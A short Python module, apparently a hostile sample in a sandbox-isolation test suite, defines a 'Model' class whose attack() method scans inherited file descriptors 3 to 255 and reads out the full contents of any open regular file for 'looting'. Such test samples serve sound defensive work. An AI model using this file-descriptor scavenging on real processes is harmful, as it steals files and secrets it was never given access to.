"""Reads every file that it was started with open."""

import contextlib
import os
import stat

from hostile import Hostile


class Model(Hostile):
    def attack(self):
        for fd in range(3, 256):
            with contextlib.suppress(OSError):
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    self.loot(os.pread(fd, os.fstat(fd).st_size, 0))
